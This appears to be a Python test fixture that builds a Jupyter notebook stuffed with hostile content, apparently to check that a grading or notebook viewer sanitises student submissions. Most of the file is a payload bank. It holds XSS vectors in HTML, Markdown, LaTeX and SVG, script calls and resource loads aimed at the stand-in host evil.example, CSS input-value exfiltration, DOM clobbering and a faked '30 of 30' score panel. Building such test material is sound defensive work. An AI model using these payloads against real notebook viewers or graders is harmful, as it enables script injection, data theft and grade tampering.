"""More of what a student may put where a teacher looks: every known way to run, load, send or restyle.

`{run}` stands for a script that leaves two traces; `WEB` for a web server that must hear of nothing.
"""

from __future__ import annotations

import json

import nbformat
from hostile_notebook import hostile_notebook
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

WEB = "evil.example"
RUN = f"document.title='owned';new Image().src='http://{WEB}/ran'"

HTML = (
    # what loads
    "<picture><source srcset='http://evil.example/1'>"
    "<img srcset='http://evil.example/2 2x' src='//evil.example/3'>",
    "<video poster=http://evil.example/4 src=http://evil.example/5 autoplay></video>",
    "<audio src=http://evil.example/6 autoplay><track default src=http://evil.example/7></audio>",
    "<input type=image src=http://evil.example/8><table background=http://evil.example/9><tr><td>x</table>",
    '<body background=http://evil.example/10 onload="{run}"><frameset>'
    "<frame src=http://evil.example/11></frameset>",
    "<link rel=prefetch href=http://evil.example/12><link rel=preconnect href=http://evil.example>",
    "<link rel=dns-prefetch href=//evil.example><link rel=icon href=http://evil.example/13>",
    "<object data=http://evil.example/14></object><embed src=http://evil.example/15>",
    "<iframe src=http://evil.example/16></iframe>"
    "<iframe srcdoc='&lt;img src=http://evil.example/17&gt;'></iframe>",
    "<svg><use href='http://evil.example/18#x'/><image href='http://evil.example/19'/></svg>",
    "<svg><style>@import 'http://evil.example/20';</style><filter>"
    "<feImage href='http://evil.example/21'/></filter></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/22'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'><base href=http://evil.example/23/>",
    # what runs
    '<svg><script>{run}</script></svg><svg onload="{run}"></svg><svg>'
    '<animate onbegin="{run}" attributeName=x dur=1s>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror="{run}">',
    "<svg></p><style><a id=\"</style><img src=1 onerror='{run}'>\">",
    "<noscript><p title=\"</noscript><img src=x onerror='{run}'>\">",
    '<template><script>{run}</script></template><xmp><img src=x onerror="{run}"></xmp>',
    '<img src=x:x onerror="{run}"><img/src/onerror="{run}"><IMG SRC=x OnErRoR="{run}">',
    '<a href="&#x6A;avascript:{run}">a</a><a href="java\tscript:{run}">b</a><a href=\'vbscript:x\'>c</a>',
    "<a href='data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+'>d</a>"
    "<a href=//evil.example ping=//evil.example/24>e</a>",
    '<form action="javascript:{run}"><button autofocus onfocus="{run}">x</button></form>',
    '<input autofocus onfocus="{run}"><select autofocus onfocus="{run}"></select><marquee onstart="{run}">x',
    '<details open ontoggle="{run}">x</details><video>'
    '<source onerror="{run}"></video><body onpageshow="{run}">',
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=\"{run}\">x</p>",
    '<div contenteditable autofocus onfocus="{run}">x</div><p popover id=p onbeforetoggle="{run}">x</p>',
    "<!--><script>{run}</script>--><![CDATA[<script>{run}</script>]]><?xml <script>{run}</script> ?>",
    "<scr<script>ipt>{run}</scr</script>ipt><script\x0c>{run}</script><script/x>{run}</script >",
    '\ufeff<script>{run}</script>\u2028<img src=x\u00a0onerror="{run}">',
    # what restyles, covers or names things of the page's own
    "<style>input[value^=a]{{background:url(http://evil.example/25)}} *{{font-family:x}}"
    "@font-face{{font-family:x;src:url(http://evil.example/26)}}</style>",
    "<p style=\"background:url('http://evil.example/27');position:fixed;inset:0\">covers</p>",
    "<img name=body><a id=location><a id=location name=href href=http://evil.example>clobbers</a>",
    "<div class='panel passed' id=score style='display:block'>30 of 30</div>",
)
MARKDOWN = (
    '![a](http://evil.example/30) ![b](//evil.example/31 "x") [![c](http://evil.example/32)](javascript:{run}'
    ")",
    "![d][e]\n\n[e]: http://evil.example/33\n\n<http://evil.example/34> <javascript:{run}>",
    "[f](data:text/html,<script>{run}</script>) [g](<javascript:{run}>) [h](&#106;avascript:{run})",
    "| a |\n|---|\n| "
    '<img src=http://evil.example/35 onerror="{run}"> |\n\n- <iframe src=http://evil.example/36>',
    "$\\includegraphics{{http://evil.example/37}}$ $\\href{{javascript:{run}}}{{x}}$ "
    "$\\unicode{{<img src=x>}}$",
    "$$\\require{{html}}\\style{{background:url(http://evil.example/38)}}{{x}}$$ \\\\(\\html{{<script>}}\\\\"
    ")",
    "`<script>{run}</script>`\n\n    <script>{run}</script>\n\n~~~js\n{run}\n~~~",
    "<div>\n\n<script>{run}</script>\n\n</div>\n\n<!-- -->\n\n"
    "<style>\n\n@import 'http://evil.example/39';\n\n</style>",
    "\x1b[2J\x1b]0;title\x07\x9b31m \u202eevil\u2066 \x00 text",
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9">'
    '<script>{run}</script><image x:href="http://evil.example/40"/>'
    "<style>@import url(http://evil.example/41);</style>"
    '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/42" onerror="{run}"/>'
    '</foreignObject><rect width="9" height="9" onclick="{run}" fill="url(http://evil.example/43)"/></svg>'
)
NAME = '<img src=http://evil.example/50 onerror="{run}">\'"><script>{run}</script>'


def payload(text: str) -> str:
    """The text with its script filled in."""
    return text.replace("{run}", RUN).replace("{{", "{").replace("}}", "}")


def hostile_bank() -> nbformat.NotebookNode:
    """One notebook with all payloads: as Markdown, as code, as an output of every kind, as an error."""
    notebook = hostile_notebook()
    drawing = payload(SVG)
    for number, text in enumerate(map(payload, (*HTML, *MARKDOWN))):
        bundles = [{kind: text} for kind in ("text/html", "text/markdown", "text/latex", "text/plain")]
        bundles += [{"image/svg+xml": drawing, "text/plain": text}, {"image/png": text, "text/html": text}]
        bundles += [{"application/javascript": RUN, "application/json": text, "text/html": f"<b>{text}"}]
        outputs = [new_output("display_data", data=data) for data in bundles]
        outputs.append(new_output("error", ename=text, evalue=text, traceback=[f"\x1b[31m{text}\x1b[0m"]))
        outputs.append(new_output("stream", name="stdout", text=text))
        markdown = new_markdown_cell(f"{text}\n\n![x](attachment:a.svg)", id=f"markdown-{number}")
        markdown["attachments"] = {"a.svg": {"image/svg+xml": drawing}, text: {"image/png": text}}
        notebook.cells += [markdown, new_code_cell(text, outputs=outputs, id=f"code-{number}")]
    return notebook


def aimed_at(notebook: nbformat.NotebookNode, server: str) -> nbformat.NotebookNode:
    """The notebook with every address changed to `server` (a host and port), which can then listen."""
    return nbformat.from_dict(json.loads(json.dumps(notebook).replace(WEB, server)))
